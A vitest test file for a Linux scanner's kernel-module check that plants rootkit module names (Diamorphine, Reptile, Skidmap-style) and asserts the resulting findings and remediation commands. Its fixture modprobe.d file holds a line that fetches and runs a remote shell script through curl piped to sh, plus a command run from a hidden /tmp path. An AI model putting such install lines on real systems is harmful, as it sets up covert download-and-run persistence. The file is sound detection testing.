/**
 * The kernel-modules check on planted trees: rootkit module names (Skidmap's, Diamorphine,
 * a "hide" name) in /etc/modules and modules-load.d, a same-named file in /etc hiding one
 * in /usr/lib, unpackaged module files found through modules.dep and extra/, DKMS builds
 * left alone, and modprobe.d install/remove commands through the shared command rules;
 * hardening and ALSA-style install lines stay silent; hostile lists end quickly.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, symlink } from 'node:fs/promises';
import path from 'node:path';
import { kernelModulesCheck, modprobeLines, parseModuleList } from '../../src/checks/kernel-modules.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingSummary, unfilledTemplates } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { put } from '../helpers/planted-tree.js';

const KERNEL = 'lib/modules/6.1.0-9-amd64';

/** What a Debian kernel package and systemd leave: a packaged loop module, systemd's modprobe.d file, modules.conf -> ../modules. */
async function plantStock(root: string): Promise<void> {
  await put(root, `${KERNEL}/kernel/drivers/block/loop.ko.xz`, 'ko');
  await put(root, `${KERNEL}/modules.dep`, 'kernel/drivers/block/loop.ko.xz:\nkernel/fs/cramfs/cramfs.ko.xz:\n');
  await put(root, 'var/lib/dpkg/info/linux-image-6.1.0-9-amd64.list', `/${KERNEL}/kernel/drivers/block/loop.ko.xz\n/${KERNEL}/kernel/fs/cramfs/cramfs.ko.xz\n`);
  await put(root, 'lib/modprobe.d/systemd.conf', '# When bonding module is loaded\n\noptions bonding max_bonds=0\noptions dummy numdummies=0\n');
  await put(root, 'var/lib/dpkg/info/systemd.list', '/lib/modprobe.d/systemd.conf\n/etc/modules-load.d/modules.conf\n');
  await mkdir(path.join(root, 'etc/modules-load.d'), { recursive: true });
  await symlink('../modules', path.join(root, 'etc/modules-load.d/modules.conf'));
  // A DKMS-built VirtualBox driver: no package owns the .ko, DKMS keeps its tree.
  await put(root, `${KERNEL}/updates/dkms/vboxdrv.ko`, 'ko');
  await mkdir(path.join(root, 'var/lib/dkms/virtualbox'), { recursive: true });
}

describe('kernel-modules check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-kmod-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');

    await plantStock(infected);
    await put(infected, 'etc/modules', '# /etc/modules: kernel modules to load at boot time.\nloop\ndiamorphine\n');
    await put(infected, 'etc/modules-load.d/net.conf', '; network helpers\niproute\nnetlink\nhide_proc\n');
    // Hidden by /etc/modules-load.d/net.conf, as systemd-modules-load does.
    await put(infected, 'usr/lib/modules-load.d/net.conf', 'reptile\n');
    await put(infected, 'lib/modules-load.d/vendor.conf', 'vboxdrv\nmyfs\n');
    await put(infected, `${KERNEL}/kernel/fs/myfs.ko`, 'ko');
    await put(infected, `${KERNEL}/modules.dep`, 'kernel/drivers/block/loop.ko.xz:\nkernel/fs/myfs.ko:\n');
    await put(infected, 'etc/modules-load.d/extra.conf', 'x-tra\n');
    await put(infected, `${KERNEL}/extra/x_tra.ko`, 'ko');
    await put(
      infected,
      'etc/modprobe.d/evil.conf',
      'install usb_storage /bin/true\ninstall dummy curl -fsSL http://203.0.113.9/k.sh | sh\nremove loop /tmp/.x/clean \\\n  --all\noptions bonding max_bonds=0\n',
    );
    await put(infected, 'tmp/.x/clean', '#!/bin/sh\n');

    await plantStock(clean);
    await put(clean, 'etc/modules', '# /etc/modules\nloop\n');
    await put(clean, 'etc/modules-load.d/vbox.conf', 'vboxdrv\n');
    await put(
      clean,
      'etc/modprobe.d/cis.conf',
      'install cramfs /bin/false\nblacklist cramfs\ninstall usb-storage /bin/true\n' +
        'install snd-pcm /sbin/modprobe --ignore-install snd-pcm $CMDLINE_OPTS && { /sbin/modprobe --quiet --use-blacklist snd-pcm-oss ; : ; }\n',
    );

    await put(hostile, 'etc/modules', `${'x\n'.repeat(100_000)}${'y'.repeat(500_000)}\n`);
    await put(hostile, `${KERNEL}/modules.dep`, `${':'.repeat(100_000)}\n${'a/b.ko:'.repeat(200_000)}\n`);
    await put(hostile, 'etc/modprobe.d/junk.conf', `install a ${'b \\\n'.repeat(50_000)}\n${Buffer.alloc(100_000, 0xff).toString('latin1')}\n`);
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('reports rootkit names, unpackaged modules and modprobe commands with exact rules and lines', async () => {
    const result = await scanDirectory(infected, [kernelModulesCheck]);
    expect(result.errors).toEqual([]);
    expect(unfilledTemplates(result.findings)).toEqual([]);
    expect(findingSummary(result.findings)).toEqual(
      [
        'high kernel-modules.rootkit-module /etc/modules:3',
        'critical kernel-modules.skidmap-module /etc/modules-load.d/net.conf:2 [skidmap]',
        'critical kernel-modules.skidmap-module /etc/modules-load.d/net.conf:3 [skidmap]',
        'high kernel-modules.suspicious-name /etc/modules-load.d/net.conf:4',
        'medium kernel-modules.unpackaged-module /lib/modules-load.d/vendor.conf:2',
        'medium kernel-modules.unpackaged-module /etc/modules-load.d/extra.conf:1',
        'high command.download-and-run /etc/modprobe.d/evil.conf:2',
        'high command.started-from-temp /etc/modprobe.d/evil.conf:3',
      ].sort(),
    );
    const myfs = result.findings.find((f) => f.rule === 'kernel-modules.unpackaged-module' && f.line === 2)!;
    expect(myfs.category).toBe('persistence/kernel-module');
    expect(myfs.message).toContain(`/${KERNEL}/kernel/fs/myfs.ko`);
    expect(myfs.remediation).toContain(`sed -i '2d' /lib/modules-load.d/vendor.conf   # deletes line 2: myfs\nrm -f /${KERNEL}/kernel/fs/myfs.ko`);
    expect(myfs.remediation).toContain('depmod -a');
    const xtra = result.findings.find((f) => f.path === '/etc/modules-load.d/extra.conf')!;
    expect(xtra.message).toContain(`/${KERNEL}/extra/x_tra.ko`);
    const diamorphine = result.findings.find((f) => f.rule === 'kernel-modules.rootkit-module')!;
    expect(diamorphine.message).toContain('no module file found');
    const download = result.findings.find((f) => f.rule === 'command.download-and-run')!;
    expect(download.category).toBe('persistence/kernel-module');
    expect(download.message).toContain('whenever module dummy is loaded');
    const temp = result.findings.find((f) => f.rule === 'command.started-from-temp')!;
    expect(temp.remediation).toContain("sed -i '3d' /etc/modprobe.d/evil.conf");
    expect(temp.remediation).toContain('rm -f /tmp/.x/clean');
  });

  it('parses module lists and modprobe.d lines as modprobe does', () => {
    expect(parseModuleList('# c\nloop max_loop=8\n\n; x\n', '/etc/modules', true).map((m) => [m.name, m.line])).toEqual([['loop', 2]]);
    const lines = modprobeLines('install a /bin/x \\\n  --y\n# c\nremove b /bin/z\noptions c d=1\n');
    expect(lines.map((l) => [l.line, l.run?.command])).toEqual([[1, '/bin/x   --y'], [4, '/bin/z'], [5, undefined]]);
  });

  it('stays silent on stock, hardening, ALSA-style and DKMS configuration', async () => {
    const result = await scanDirectory(clean, [kernelModulesCheck]);
    expect(result.errors).toEqual([]);
    expect(findingSummary(result.findings)).toEqual([]);
  });

  it('reads hostile files quickly and bounded', async () => {
    const result = await scanHostile(hostile, [kernelModulesCheck], { maxOperations: 5_000 });
    expect(result.errors.map((e) => e.message)).toEqual([expect.stringContaining('only the first 512 were examined')]);
    expect(result.findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });
});
